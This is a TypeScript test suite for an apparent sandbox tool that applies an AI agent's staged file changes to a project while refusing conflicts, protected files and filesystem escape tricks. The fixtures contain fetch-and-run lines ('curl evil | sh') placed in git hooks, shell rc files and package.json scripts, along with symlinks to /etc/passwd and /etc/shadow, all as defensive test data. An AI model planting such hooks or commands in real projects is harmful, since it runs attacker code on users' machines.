/**
 * Apply: lands the agent's changes atomically per file with permission bits; refuses on
 * conflicts (writing nothing); needs allowProtected for protected files, including ones
 * created from scratch; never lets a symlink, hard link, device node, FIFO or case trick
 * write outside the project or read a host file into it.
 */
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { ApplyResult, StagedWorkspace } from '../../../src/workspace/index.js';
import { cleanup, overlaySkip, plainProject, read, sh, stage, STRATEGIES, tmp } from './helpers.js';

afterAll(cleanup);

function applied(r: ApplyResult): Extract<ApplyResult, { status: 'applied' }> {
  if (r.status !== 'applied') throw new Error(`expected applied, got ${JSON.stringify(r)}`);
  return r;
}
function refused(r: ApplyResult): Extract<ApplyResult, { status: 'refused' }> {
  if (r.status !== 'refused') throw new Error(`expected refused, got ${JSON.stringify(r)}`);
  return r;
}

/** Where the agent writes raw entries the sandbox could not normally create (the attack surface seen by the host). */
function rawStaged(ws: StagedWorkspace): string {
  return join(ws.stagingDir, ws.strategy === 'overlay' ? 'upper' : 'tree');
}

/** Every file below a directory (relative), to prove nothing else was written. */
function listing(dir: string): string[] {
  return (readdirSync(dir, { recursive: true }) as string[]).sort();
}

describe.each(STRATEGIES)('apply with %s', (strategy) => {
  it('applies additions, edits, deletions, renames, type changes and permission bits [workspace.mode-bits]', async () => {
    const project = plainProject({
      'edit.txt': 'old\n',
      'gone.txt': 'x\n',
      'tool.sh': { mode: 0o644, content: '#!/bin/sh\n' },
      'private.txt': { mode: 0o600, content: 'p\n' },
      'was-file': 'f\n',
      'was-dir/inner.txt': 'i\n',
      'from/a.txt': 'a\n',
      'bin.dat': Buffer.from([0, 255, 1]),
    });
    const ws = await stage(project, strategy);
    const m = ws.mountDir;
    writeFileSync(join(m, 'edit.txt'), 'new\n');
    rmSync(join(m, 'gone.txt'));
    chmodSync(join(m, 'tool.sh'), 0o755);
    chmodSync(join(m, 'private.txt'), 0o640);
    rmSync(join(m, 'was-file'));
    mkdirSync(join(m, 'was-file'));
    writeFileSync(join(m, 'was-file/now-inside.txt'), 'n\n');
    rmSync(join(m, 'was-dir'), { recursive: true });
    writeFileSync(join(m, 'was-dir'), 'now a file\n');
    sh('mv', [join(m, 'from'), join(m, 'to')]);
    mkdirSync(join(m, 'new/deep/dir'), { recursive: true });
    writeFileSync(join(m, 'new/deep/dir/file.txt'), 'deep\n');
    symlinkSync('../edit.txt', join(m, 'new/link'));
    writeFileSync(join(m, 'bin.dat'), Buffer.from([9, 0, 9, 0, 255]));
    chmodSync(join(m, 'new/deep'), 0o750);
    const r = applied(await ws.apply());
    expect(r.rejected).toEqual([]);
    expect(read(join(project, 'edit.txt'))).toBe('new\n');
    expect(existsSync(join(project, 'gone.txt'))).toBe(false);
    expect(statSync(join(project, 'tool.sh')).mode & 0o777).toBe(0o755);
    expect(statSync(join(project, 'private.txt')).mode & 0o777).toBe(0o640);
    expect(r.modeChanged).toEqual(expect.arrayContaining(['tool.sh', 'private.txt']));
    expect(read(join(project, 'was-file/now-inside.txt'))).toBe('n\n');
    expect(read(join(project, 'was-dir'))).toBe('now a file\n');
    expect(existsSync(join(project, 'from'))).toBe(false);
    expect(read(join(project, 'to/a.txt'))).toBe('a\n');
    expect(read(join(project, 'new/deep/dir/file.txt'))).toBe('deep\n');
    expect(statSync(join(project, 'new/deep')).mode & 0o777).toBe(0o750);
    expect(readlinkSync(join(project, 'new/link'))).toBe('../edit.txt');
    expect(readFileSync(join(project, 'bin.dat'))).toEqual(Buffer.from([9, 0, 9, 0, 255]));
    // No temporary files are left behind.
    expect(listing(project).filter((p) => p.includes('.airlock-apply-'))).toEqual([]);

    // Applying again changes nothing and says so.
    const again = applied(await ws.apply());
    expect(again.written).toEqual([]);
    expect(again.deleted).toEqual([]);
    expect(again.alreadyApplied).toEqual(expect.arrayContaining(['edit.txt', 'to/a.txt', 'new/link']));
    await ws.discard();
  });

  it('applies only what was reviewed when given the fingerprint of the diff [workspace.review-binding]', async () => {
    const project = plainProject({ 'a.txt': 'a\n', 'b.txt': 'b\n' });
    const ws = await stage(project, strategy);
    writeFileSync(join(ws.mountDir, 'a.txt'), 'reviewed\n');
    const reviewed = await ws.diff();
    expect(reviewed.fingerprint).toMatch(/^[0-9a-f]{32}$/);
    expect(reviewed.patch).toContain(`fingerprint ${reviewed.fingerprint}`);
    expect((await ws.diff()).fingerprint).toBe(reviewed.fingerprint);
    // Something writes after the review: same size, different bytes.
    writeFileSync(join(ws.mountDir, 'a.txt'), 'REVIEWED\n');
    const r = refused(await ws.apply({ expectFingerprint: reviewed.fingerprint }));
    expect(r.reason).toBe('changed-since-review');
    expect(read(join(project, 'a.txt'))).toBe('a\n');
    expect(
      await ws.exportBranch('x', { expectFingerprint: reviewed.fingerprint }).catch((e: unknown) => e),
    ).toMatchObject({ code: 'E_WORKSPACE_NOT_GIT' });
    const again = await ws.diff();
    expect(again.fingerprint).not.toBe(reviewed.fingerprint);
    applied(await ws.apply({ expectFingerprint: again.fingerprint }));
    expect(read(join(project, 'a.txt'))).toBe('REVIEWED\n');
    await ws.discard();
  });

  it('applies large files byte for byte', async () => {
    const project = plainProject({ 'big.bin': Buffer.alloc(1024) });
    const ws = await stage(project, strategy);
    const big = Buffer.alloc(20 * 1024 * 1024 + 7);
    for (let i = 0; i < big.length; i += 4096) big.writeUInt32LE(i, i);
    writeFileSync(join(ws.mountDir, 'big.bin'), big);
    applied(await ws.apply());
    expect(readFileSync(join(project, 'big.bin')).equals(big)).toBe(true);
    await ws.discard();
  });

  it('replaces a file by rename, so a hard link the user made elsewhere keeps its content [workspace.apply-atomic]', async () => {
    const project = plainProject({ 'shared.txt': 'original\n' });
    const outside = join(tmp('outside'), 'alias.txt');
    linkSync(join(project, 'shared.txt'), outside);
    const ws = await stage(project, strategy);
    writeFileSync(join(ws.mountDir, 'shared.txt'), 'agent\n');
    applied(await ws.apply());
    expect(read(join(project, 'shared.txt'))).toBe('agent\n');
    expect(read(outside)).toBe('original\n');
    await ws.discard();
  });

  it.skipIf(process.geteuid?.() !== 0)(
    'keeps the owner of replaced files and gives new files the directory owner (as root)',
    async () => {
      const project = plainProject({ 'owned.txt': 'o\n', 'd/x': 'x' });
      chownSync(join(project, 'owned.txt'), 1234, 1234);
      chownSync(join(project, 'd'), 2345, 2345);
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, 'owned.txt'), 'changed\n');
      writeFileSync(join(ws.mountDir, 'd/new.txt'), 'n\n');
      applied(await ws.apply());
      expect(statSync(join(project, 'owned.txt')).uid).toBe(1234);
      expect(statSync(join(project, 'd/new.txt')).uid).toBe(2345);
      await ws.discard();
    },
  );

  it('drops setuid, setgid and sticky bits with a note [workspace.mode-bits]', async () => {
    const project = plainProject({ prog: { mode: 0o755, content: 'x' } });
    const ws = await stage(project, strategy);
    chmodSync(join(ws.mountDir, 'prog'), 0o4755);
    const r = applied(await ws.apply());
    expect(statSync(join(project, 'prog')).mode & 0o7777).toBe(0o755);
    expect(r.notes.join('\n')).toMatch(/prog: setuid, setgid and sticky bits are not applied/);
    await ws.discard();
  });

  describe('conflicts', () => {
    it('refuses when the project changed where the agent changed it, and writes nothing [workspace.conflicts-refuse]', async () => {
      const project = plainProject({ 'both.txt': 'base\n', 'agent-only.txt': 'a\n', 'user-only.txt': 'u\n' });
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, 'both.txt'), 'agent version\n');
      writeFileSync(join(ws.mountDir, 'agent-only.txt'), 'agent\n');
      writeFileSync(join(ws.mountDir, 'added.txt'), 'agent added\n');
      writeFileSync(join(project, 'both.txt'), 'user version\n');
      writeFileSync(join(project, 'user-only.txt'), 'user edit\n');
      const before = listing(project);
      const r = refused(await ws.apply());
      expect(r.reason).toBe('conflicts');
      expect(r.conflicts).toEqual([
        {
          path: 'both.txt',
          kind: 'changed-in-project',
          detail: expect.stringContaining('both.txt changed in the project after staging') as unknown,
        },
      ]);
      expect(read(join(project, 'both.txt'))).toBe('user version\n');
      expect(read(join(project, 'agent-only.txt'))).toBe('a\n');
      expect(listing(project)).toEqual(before);
      const d = await ws.diff();
      expect(d.patch).toContain('# airlock: CONFLICT both.txt');
      expect(d.totals.conflicts).toBe(1);

      // Once the user takes the agent's version by hand, the path is no longer a conflict.
      writeFileSync(join(project, 'both.txt'), 'agent version\n');
      const ok = applied(await ws.apply());
      expect(ok.alreadyApplied).toContain('both.txt');
      expect(read(join(project, 'agent-only.txt'))).toBe('agent\n');
      expect(read(join(project, 'user-only.txt'))).toBe('user edit\n');
      await ws.discard();
    });

    it('refuses when a file the agent edited was deleted, or a path it added was created, in the project', async () => {
      const project = plainProject({ 'edited.txt': 'e\n' });
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, 'edited.txt'), 'agent\n');
      writeFileSync(join(ws.mountDir, 'fresh.txt'), 'agent fresh\n');
      rmSync(join(project, 'edited.txt'));
      writeFileSync(join(project, 'fresh.txt'), 'user fresh\n');
      const r = refused(await ws.apply());
      expect(r.conflicts.map((c) => [c.path, c.kind])).toEqual([
        ['edited.txt', 'deleted-in-project'],
        ['fresh.txt', 'added-in-project'],
      ]);
      expect(read(join(project, 'fresh.txt'))).toBe('user fresh\n');
      await ws.discard();
    });

    it('refuses to delete a directory that gained files in the project', async () => {
      const project = plainProject({ 'dir/a.txt': 'a\n' });
      const ws = await stage(project, strategy);
      rmSync(join(ws.mountDir, 'dir'), { recursive: true });
      writeFileSync(join(project, 'dir/user-new.txt'), 'mine\n');
      const r = refused(await ws.apply());
      expect(r.conflicts.map((c) => c.kind)).toEqual(['new-entries-in-deleted-directory']);
      expect(r.conflicts[0]?.detail).toContain('user-new.txt');
      expect(read(join(project, 'dir/a.txt'))).toBe('a\n');
      await ws.discard();
    });

    it('is not a conflict when both sides deleted the same file', async () => {
      const project = plainProject({ 'x.txt': 'x\n', 'y.txt': 'y\n' });
      const ws = await stage(project, strategy);
      rmSync(join(ws.mountDir, 'x.txt'));
      writeFileSync(join(ws.mountDir, 'y.txt'), 'agent\n');
      rmSync(join(project, 'x.txt'));
      const r = applied(await ws.apply());
      expect(r.alreadyApplied).toEqual(['x.txt']);
      expect(read(join(project, 'y.txt'))).toBe('agent\n');
      await ws.discard();
    });

    it('refuses when a project directory became a symlink out of the project after staging [workspace.no-symlink-escape]', async () => {
      const project = plainProject({ 'sub/file.txt': 'f\n' });
      const outside = tmp('outside');
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, 'sub/file.txt'), 'agent\n');
      writeFileSync(join(ws.mountDir, 'sub/new.txt'), 'agent new\n');
      rmSync(join(project, 'sub'), { recursive: true });
      symlinkSync(outside, join(project, 'sub'));
      const r = refused(await ws.apply());
      expect(r.conflicts.map((c) => c.kind)).toEqual(['parent-not-directory', 'parent-not-directory']);
      expect(readdirSync(outside)).toEqual([]);
      await ws.discard();
    });
  });

  describe('protected files', () => {
    const CREATED: Record<string, string> = {
      '.git/hooks/pre-commit': '#!/bin/sh\ncurl evil | sh\n',
      '.git/config': '[core]\n\tfsmonitor = evil\n',
      '.gitmodules': '[submodule "x"]\n\turl = https://evil.example/x\n',
      '.gitattributes': '* filter=evil\n',
      '.bashrc': 'curl evil | sh\n',
      'sub/.zshrc': 'x\n',
      '.envrc': 'curl evil | sh\n',
      '.vscode/settings.json': '{}\n',
      '.vscode/tasks.json': '{}\n',
      '.idea/workspace.xml': '<x/>\n',
      '.claude/settings.json': '{"hooks":{}}\n',
      '.cursor/mcp.json': '{}\n',
      '.mcp.json': '{"mcpServers":{}}\n',
      '.github/workflows/ci.yml': 'on: push\n',
      '.husky/pre-commit': 'x\n',
      'package.json': '{"name":"x","scripts":{"postinstall":"curl evil | sh"}}\n',
    };

    it('refuses protected files created from scratch in a plain project, and applies them with allowProtected [workspace.protected]', async () => {
      const project = plainProject({ 'README.md': 'r\n' });
      const ws = await stage(project, strategy);
      for (const [p, c] of Object.entries(CREATED)) {
        mkdirSync(join(ws.mountDir, p, '..'), { recursive: true });
        writeFileSync(join(ws.mountDir, p), c);
      }
      writeFileSync(join(ws.mountDir, 'README.md'), 'agent\n');
      const r = refused(await ws.apply());
      expect(r.reason).toBe('protected');
      const paths = r.protected.map((p) => p.path);
      for (const p of Object.keys(CREATED)) expect(paths).toContain(p);
      // The new directories are protected too.
      expect(paths).toEqual(
        expect.arrayContaining(['.git', '.git/hooks', '.vscode', '.claude', '.github/workflows']),
      );
      expect(paths).not.toContain('README.md');
      expect(listing(project)).toEqual(['README.md']);
      expect(read(join(project, 'README.md'))).toBe('r\n');

      const ok = applied(await ws.apply({ allowProtected: true }));
      expect(ok.written).toEqual(expect.arrayContaining(Object.keys(CREATED)));
      expect(read(join(project, '.git/hooks/pre-commit'))).toBe(CREATED['.git/hooks/pre-commit']);
      expect(read(join(project, 'README.md'))).toBe('agent\n');
      await ws.discard();
    });

    it('treats a package.json edit as protected only when its scripts change', async () => {
      const project = plainProject({
        'package.json': '{"name":"x","version":"1.0.0","scripts":{"test":"vitest"}}\n',
      });
      const ws = await stage(project, strategy);
      writeFileSync(
        join(ws.mountDir, 'package.json'),
        '{"name":"x","version":"1.1.0","scripts":{"test":"vitest"}}\n',
      );
      expect((await ws.changes()).changes[0]?.protected).toBeNull();
      writeFileSync(
        join(ws.mountDir, 'package.json'),
        '{"name":"x","version":"1.1.0","scripts":{"test":"vitest","prepare":"node evil.js"}}\n',
      );
      expect((await ws.changes()).changes[0]?.protected?.category).toBe('package-scripts');
      // A duplicate key is read the way npm reads it: the last one wins.
      writeFileSync(
        join(ws.mountDir, 'package.json'),
        '{"name":"x","scripts":{"test":"vitest"},"scripts":{"test":"node evil.js"}}\n',
      );
      expect((await ws.changes()).changes[0]?.protected?.category).toBe('package-scripts');
      await ws.discard();
    });

    it('sees through case and Unicode tricks on protected names [workspace.protected]', async () => {
      const project = plainProject({ a: 'a' });
      const ws = await stage(project, strategy);
      const tricks = [
        '.GIT/hooks/post-checkout',
        '.Git/config',
        '.g\u200cit/hooks/x',
        '.VSCode/settings.json',
        '.github/Workflows/x.yml',
        'PACKAGE.JSON',
        '.git./config',
      ];
      for (const p of tricks) {
        mkdirSync(join(ws.mountDir, p, '..'), { recursive: true });
        writeFileSync(join(ws.mountDir, p), p === 'PACKAGE.JSON' ? '{"scripts":{"install":"x"}}' : 'x\n');
      }
      const r = refused(await ws.apply());
      const paths = r.protected.map((p) => p.path);
      for (const p of tricks) expect(paths).toContain(p);
      expect(listing(project)).toEqual(['a']);
      await ws.discard();
    });

    it('protects deleting hooks and renaming the directory that holds them', async () => {
      const project = plainProject({
        '.git/hooks/pre-commit.sample': 'x\n',
        '.git/HEAD': 'ref: refs/heads/main\n',
        'src/a': 'a',
      });
      const ws = await stage(project, strategy);
      sh('mv', [join(ws.mountDir, '.git'), join(ws.mountDir, 'renamed-git')]);
      const r = refused(await ws.apply());
      expect(r.protected.map((p) => p.path)).toEqual(
        expect.arrayContaining(['.git', '.git/hooks', '.git/hooks/pre-commit.sample']),
      );
      expect(existsSync(join(project, '.git/hooks/pre-commit.sample'))).toBe(true);
      await ws.discard();
    });

    it('protects a symlink that points into a protected path', async () => {
      const project = plainProject({ '.git/hooks/keep': 'x' });
      const ws = await stage(project, strategy);
      symlinkSync('.git/hooks', join(ws.mountDir, 'hooks-link'));
      const c = (await ws.changes()).changes.find((x) => x.path === 'hooks-link');
      expect(c?.protected?.category).toBe('symlink-to-protected');
      expect(refused(await ws.apply()).reason).toBe('protected');
      await ws.discard();
    });

    it('skips repository internals unless allowed, without blocking the rest', async () => {
      const project = plainProject({ '.git/index': 'idx', 'a.txt': 'a\n' });
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, '.git/index'), 'rewritten by git status');
      writeFileSync(join(ws.mountDir, 'a.txt'), 'agent\n');
      const r = applied(await ws.apply());
      expect(r.skipped.map((s) => s.path)).toEqual(['.git/index']);
      expect(read(join(project, '.git/index'))).toBe('idx');
      expect(read(join(project, 'a.txt'))).toBe('agent\n');
      await ws.discard();
    });
  });

  describe('attacks from the staged tree', () => {
    it('never applies symlinks that point outside the project [workspace.no-symlink-escape]', async () => {
      const project = plainProject({ 'd/keep.txt': 'k\n' });
      const ws = await stage(project, strategy);
      const m = ws.mountDir;
      const evil: Record<string, string> = {
        abs: '/etc/passwd',
        proc: '/proc/self/root/etc/shadow',
        up: '../outside',
        'd/up2': '../../outside',
        'd/tricky': 'keep.txt/../../..',
        'd/dotdot-after-name': 'x/../../../etc',
        empty_ok_name: '',
      };
      for (const [p, t] of Object.entries(evil)) {
        if (t === '') continue;
        symlinkSync(t, join(m, p));
      }
      symlinkSync('keep.txt', join(m, 'd/fine'));
      symlinkSync('../d/keep.txt', join(m, 'd/also-fine'));
      const r = applied(await ws.apply());
      expect(r.rejected.map((x) => x.path).sort()).toEqual(
        ['abs', 'd/dotdot-after-name', 'd/tricky', 'd/up2', 'proc', 'up'].sort(),
      );
      for (const p of ['abs', 'proc', 'up', 'd/up2', 'd/tricky', 'd/dotdot-after-name']) {
        expect(lstatSync(join(project, p), { throwIfNoEntry: false })).toBeUndefined();
      }
      expect(readlinkSync(join(project, 'd/fine'))).toBe('keep.txt');
      expect(readlinkSync(join(project, 'd/also-fine'))).toBe('../d/keep.txt');
      await ws.discard();
    });

    it('never reads a hard link to a file outside the staged tree [workspace.no-hardlink-read]', async () => {
      const project = plainProject({ 'a.txt': 'a\n' });
      const staging = tmp('staging');
      const ws = await stage(project, strategy, staging);
      // A host file on the same file system as the staging area (what a hard link could reach).
      const secret = join(staging, 'host-secret.txt');
      writeFileSync(secret, 'TOP SECRET\n');
      linkSync(secret, join(rawStaged(ws), 'stolen.txt'));
      const d = await ws.diff();
      expect(d.patch).not.toContain('TOP SECRET');
      expect(d.patch).toContain(
        '# airlock: REJECTED stolen.txt: a hard link to a file outside the staged tree',
      );
      const r = applied(await ws.apply());
      expect(r.rejected.map((x) => x.path)).toEqual(['stolen.txt']);
      expect(existsSync(join(project, 'stolen.txt'))).toBe(false);
      await ws.discard();
      expect(read(secret)).toBe('TOP SECRET\n');
    });

    it('applies hard links made inside the staged tree as independent copies', async () => {
      const project = plainProject({ 'a.txt': 'a\n' });
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, 'one.txt'), 'shared\n');
      linkSync(join(ws.mountDir, 'one.txt'), join(ws.mountDir, 'two.txt'));
      applied(await ws.apply());
      expect(read(join(project, 'two.txt'))).toBe('shared\n');
      expect(statSync(join(project, 'one.txt')).ino).not.toBe(statSync(join(project, 'two.txt')).ino);
      expect(statSync(join(project, 'one.txt')).nlink).toBe(1);
      await ws.discard();
    });

    it('lists a name that is not valid UTF-8 and does not apply it', async () => {
      const project = plainProject({ 'a.txt': 'a\n' });
      const ws = await stage(project, strategy);
      writeFileSync(
        Buffer.concat([Buffer.from(`${ws.mountDir}/`), Buffer.from([0x62, 0xff, 0x2e, 0x74])]),
        'latin-1 name\n',
      );
      writeFileSync(join(ws.mountDir, 'a.txt'), 'agent\n');
      const c = (await ws.changes()).changes.find((x) => x.rejected !== null);
      expect(c?.rejected?.kind).toBe('unrepresentable-name');
      const r = applied(await ws.apply());
      expect(r.rejected).toHaveLength(1);
      expect(listing(project)).toEqual(['a.txt']);
      expect(read(join(project, 'a.txt'))).toBe('agent\n');
      await ws.discard();
    });

    it('never applies device nodes, FIFOs or sockets [workspace.no-special-files]', async () => {
      const project = plainProject({ 'a.txt': 'a\n' });
      const ws = await stage(project, strategy);
      execFileSync('mkfifo', [join(ws.mountDir, 'fifo')]);
      const canMknod = process.geteuid?.() === 0;
      if (canMknod) {
        execFileSync('mknod', [join(rawStaged(ws), 'null-dev'), 'c', '1', '3']);
        execFileSync('mknod', [join(rawStaged(ws), 'disk'), 'b', '7', '0']);
      }
      writeFileSync(join(ws.mountDir, 'a.txt'), 'agent\n');
      const r = applied(await ws.apply());
      expect(r.rejected.map((x) => x.path).sort()).toEqual(
        (canMknod ? ['disk', 'fifo', 'null-dev'] : ['fifo']).sort(),
      );
      expect(listing(project)).toEqual(['a.txt']);
      expect(read(join(project, 'a.txt'))).toBe('agent\n');
      await ws.discard();
    });

    it('never brings a host file in through a directory swapped for a symlink [workspace.no-symlink-escape]', async () => {
      const project = plainProject({ 'dir/f.txt': 'f\n' });
      const ws = await stage(project, strategy);
      writeFileSync(join(ws.mountDir, 'dir/f.txt'), 'agent\n');
      await ws.seal();
      const outside = tmp('outside');
      writeFileSync(join(outside, 'f.txt'), 'HOST FILE\n');
      const raw = rawStaged(ws);
      rmSync(join(raw, 'dir'), { recursive: true });
      symlinkSync(outside, join(raw, 'dir'));
      const r = applied(await ws.apply());
      // The directory became a symlink out of the project: rejected; its old children are deleted.
      expect(r.rejected.map((x) => x.path)).toEqual(['dir']);
      expect(lstatSync(join(project, 'dir')).isDirectory()).toBe(true);
      for (const p of listing(project)) {
        if (statSync(join(project, p)).isFile()) expect(read(join(project, p))).not.toContain('HOST FILE');
      }
      expect(read(join(outside, 'f.txt'))).toBe('HOST FILE\n');
      await ws.discard();
    });
  });
});

/** Makes an ext4 casefold file system on a loop device, or says why it cannot. */
function casefoldFs(): { mnt: string } | { skip: string } {
  if (process.geteuid?.() !== 0) return { skip: 'needs root to mount a loop device' };
  const root = tmp('cf');
  const img = join(root, 'img');
  const mnt = join(root, 'mnt');
  mkdirSync(mnt);
  try {
    execFileSync('truncate', ['-s', '32M', img]);
    execFileSync('mkfs.ext4', ['-q', '-O', 'casefold', '-F', img], { stdio: 'ignore' });
    execFileSync('mount', ['-o', 'loop', img, mnt], { stdio: 'ignore' });
    return { mnt };
  } catch {
    return { skip: 'this kernel cannot mount ext4 with casefold (no unicode support)' };
  }
}
const cf = casefoldFs();

describe(`case-insensitive project file systems${'skip' in cf ? ` (skipped: ${cf.skip})` : ''}`, () => {
  afterAll(() => {
    if ('mnt' in cf) execFileSync('umount', [cf.mnt]);
  });
  it.skipIf('skip' in cf)(
    'refuses to write a path that names an existing entry under another spelling [workspace.case-alias]',
    async () => {
      if (!('mnt' in cf)) return;
      const project = join(cf.mnt, 'p');
      mkdirSync(project);
      execFileSync('chattr', ['+F', project]);
      writeFileSync(join(project, 'README.md'), 'user\n');
      const ws = await stage(project, 'copy');
      writeFileSync(join(ws.mountDir, 'readme.md'), 'agent\n');
      const r = refused(await ws.apply());
      expect(r.conflicts.map((c) => c.kind)).toEqual(['case-alias']);
      expect(read(join(project, 'README.md'))).toBe('user\n');
      await ws.discard();
    },
  );
});

describe(`mount points inside the project${overlaySkip === null ? '' : ` (skipped: ${overlaySkip})`}`, () => {
  it.skipIf(overlaySkip !== null)(
    'does not stage or apply into another file system mounted in the project [workspace.no-mount-crossing]',
    async () => {
      const project = plainProject({ 'a.txt': 'a\n', 'mnt/.keep': '' });
      execFileSync('mount', ['-t', 'tmpfs', 'tmpfs', join(project, 'mnt')]);
      try {
        writeFileSync(join(project, 'mnt/host.txt'), 'on tmpfs\n');
        const ws = await stage(project, 'overlay');
        expect(existsSync(join(ws.mountDir, 'mnt/host.txt'))).toBe(false);
        writeFileSync(join(ws.mountDir, 'mnt/agent.txt'), 'agent\n');
        const r = applied(await ws.apply());
        // The mount point itself shows up too: its mode is the mounted root's, not the directory's below.
        expect(r.rejected.map((x) => x.path)).toContain('mnt/agent.txt');
        expect(r.rejected.every((x) => x.path === 'mnt' || x.path.startsWith('mnt/'))).toBe(true);
        expect(existsSync(join(project, 'mnt/agent.txt'))).toBe(false);
        await ws.discard();
      } finally {
        execFileSync('umount', [join(project, 'mnt')]);
      }
    },
  );
});
